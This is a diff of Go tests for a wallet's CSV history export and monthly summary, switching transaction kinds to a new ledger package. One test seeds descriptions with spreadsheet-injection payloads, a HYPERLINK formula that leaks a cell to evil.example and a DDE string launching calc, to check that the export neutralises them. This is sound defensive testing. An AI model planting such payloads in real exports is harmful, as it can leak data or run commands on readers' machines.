@@ -15,6 +15,7 @@ import (
 	"github.com/jmoiron/sqlx"
 
 	"im2pay/db"
+	"im2pay/ledger"
 	"im2pay/wallet"
 )
 
@@ -39,7 +40,7 @@ func stmtGrant(t *testing.T, s *site, u db.User, amount wallet.Money, key, descr
 
 // stmtSpend pays amount out of u's wallet the way every spending area does:
 // DebitTx inside the store's transaction.
-func stmtSpend(t *testing.T, s *site, u db.User, amount wallet.Money, kind db.TxnKind, key string) {
+func stmtSpend(t *testing.T, s *site, u db.User, amount wallet.Money, kind ledger.Kind, key string) {
 	t.Helper()
 	ctx := context.Background()
 	revenue, err := s.wallet.SystemAccount(ctx, "revenue:test")
@@ -89,9 +90,9 @@ func TestTheCSVHasTheBOMAHeaderAndOneRowPerHistoryLineThatSumToTheBalance(t *tes
 	s := newSite(t)
 	b, u := stmtPerson(t, s, "alice")
 	stmtGrant(t, s, u, 100_00, "grant:a1", "welcome_grant")
-	stmtSpend(t, s, u, 12_50, db.KindPurchase, "buy-1")
+	stmtSpend(t, s, u, 12_50, ledger.Purchase, "buy-1")
 	stmtGrant(t, s, u, 5_05, "grant:a2", "signup_grant")
-	stmtSpend(t, s, u, 6_60, db.KindGift, "gift-1")
+	stmtSpend(t, s, u, 6_60, ledger.Gift, "gift-1")
 
 	a, rows := stmtCSV(t, b, "/history/export.csv")
 	today := s.clock.Now().In(shanghai(t)).Format("2006-01-02")
@@ -127,7 +128,7 @@ func TestTheCSVHasTheBOMAHeaderAndOneRowPerHistoryLineThatSumToTheBalance(t *tes
 		}
 		sum += m
 	}
-	bal, err := s.store.Balance(context.Background(), u.WalletID)
+	bal, err := s.ledger.Balance(context.Background(), u.WalletID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -159,8 +160,8 @@ func TestTheCSVAppliesTheFilterAndAnEmptyRangeIsJustTheHeader(t *testing.T) {
 	s := newSite(t)
 	b, u := stmtPerson(t, s, "alice")
 	stmtGrant(t, s, u, 50_00, "grant:f1", "welcome_grant")
-	stmtSpend(t, s, u, 1_00, db.KindPurchase, "buy-1")
-	stmtSpend(t, s, u, 2_00, db.KindCharge, "charge-1")
+	stmtSpend(t, s, u, 1_00, ledger.Purchase, "buy-1")
+	stmtSpend(t, s, u, 2_00, ledger.Charge, "charge-1")
 
 	_, rows := stmtCSV(t, b, "/history/export.csv?kind=purchase")
 	if len(rows) != 2 || rows[1][3] != "-1.00" {
@@ -195,7 +196,7 @@ func TestAFormulaInADescriptionIsNeutralisedAndAmountsStayNumbers(t *testing.T) 
 	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
 	stmtGrant(t, s, u, 10_00, "grant:evil", evil)
 	stmtGrant(t, s, u, 1_00, "grant:plus", "+1+cmd|' /C calc'!A0")
-	stmtSpend(t, s, u, 3_00, db.KindPurchase, "buy-1")
+	stmtSpend(t, s, u, 3_00, ledger.Purchase, "buy-1")
 
 	_, rows := stmtCSV(t, b, "/history/export.csv")
 	if len(rows) != 4 {
@@ -215,7 +216,7 @@ func TestAnotherUsersLinesNeverAppear(t *testing.T) {
 	_, ub := stmtPerson(t, s, "bob")
 	stmtGrant(t, s, ua, 10_00, "grant:alice", "welcome_grant")
 	stmtGrant(t, s, ub, 777_77, "grant:bob", "welcome_grant")
-	stmtSpend(t, s, ub, 66_66, db.KindGift, "bob-gift")
+	stmtSpend(t, s, ub, 66_66, ledger.Gift, "bob-gift")
 
 	a, rows := stmtCSV(t, alice, "/history/export.csv")
 	if len(rows) != 2 {
@@ -229,7 +230,7 @@ func TestALongStatementStreamsPageAfterPageWithNoLineLostOrRepeated(t *testing.T
 	s := newSite(t)
 	b, u := stmtPerson(t, s, "busy")
 	n := 2*wallet.StatementPageSize + 7
-	stmtRaw(t, s, u, n, 1, db.KindGrant, "bulk", time.Now())
+	stmtRaw(t, s, u, n, 1, ledger.Grant, "bulk", time.Now())
 
 	a, rows := stmtCSV(t, b, "/history/export.csv")
 	if a.header.Get("Content-Length") != "" {
@@ -250,10 +251,10 @@ func TestTheSummaryShowsEachMonthsMoneyInAndOutByKindWithOneBarPerMonth(t *testi
 	b, u := stmtPerson(t, s, "alice")
 	stmtGrant(t, s, u, 100_00, "grant:s1", "welcome_grant")
 	stmtGrant(t, s, u, 50_00, "grant:s2", "welcome_grant")
-	stmtSpend(t, s, u, 12_50, db.KindPurchase, "buy-1")
-	stmtSpend(t, s, u, 6_60, db.KindGift, "gift-1")
-	stmtSpend(t, s, u, 10, db.KindCharge, "charge-1")
-	stmtSpend(t, s, u, 1_00, db.KindPurchase, "buy-2")
+	stmtSpend(t, s, u, 12_50, ledger.Purchase, "buy-1")
+	stmtSpend(t, s, u, 6_60, ledger.Gift, "gift-1")
+	stmtSpend(t, s, u, 10, ledger.Charge, "charge-1")
+	stmtSpend(t, s, u, 1_00, ledger.Purchase, "buy-2")
 
 	page := b.get("/history/summary")
 	expectStatus(t, page, http.StatusOK)
@@ -315,9 +316,9 @@ func TestTheSummaryCutsMonthsWhereTheReadersCalendarDoes(t *testing.T) {
 	lastMonth := time.Date(now.Year(), now.Month()-1, 1, 0, 0, 0, 0, sh)
 	// Half past midnight on the 1st in Shanghai is still the month before in
 	// UTC; half an hour earlier is the month before in Shanghai too.
-	stmtRaw(t, s, u, 1, 20_00, db.KindGrant, "early", lastMonth.Add(30*time.Minute))
-	stmtRaw(t, s, u, 1, -3_00, db.KindPurchase, "late", lastMonth.Add(-30*time.Minute))
-	stmtRaw(t, s, u, 1, 9_99, db.KindGrant, "too-old", time.Date(now.Year(), now.Month()-12, 28, 12, 0, 0, 0, sh))
+	stmtRaw(t, s, u, 1, 20_00, ledger.Grant, "early", lastMonth.Add(30*time.Minute))
+	stmtRaw(t, s, u, 1, -3_00, ledger.Purchase, "late", lastMonth.Add(-30*time.Minute))
+	stmtRaw(t, s, u, 1, 9_99, ledger.Grant, "too-old", time.Date(now.Year(), now.Month()-12, 28, 12, 0, 0, 0, sh))
 
 	page := b.get("/history/summary")
 	expectStatus(t, page, http.StatusOK)
@@ -343,7 +344,7 @@ func TestTheSummaryCutsMonthsWhereTheReadersCalendarDoes(t *testing.T) {
 // against the grants account, dated at, in one SQL statement: the triggers
 // keep balances as db.Post would, posted entries cannot be moved in time
 // afterwards, and a thousand separate postings would only slow the suite.
-func stmtRaw(t *testing.T, s *site, u db.User, n int, amount wallet.Money, kind db.TxnKind, key string, at time.Time) {
+func stmtRaw(t *testing.T, s *site, u db.User, n int, amount wallet.Money, kind ledger.Kind, key string, at time.Time) {
 	t.Helper()
 	const q = `
 		WITH t AS (INSERT INTO ledger_transactions (idempotency_key, request_hash, kind, reference, description, created_at)
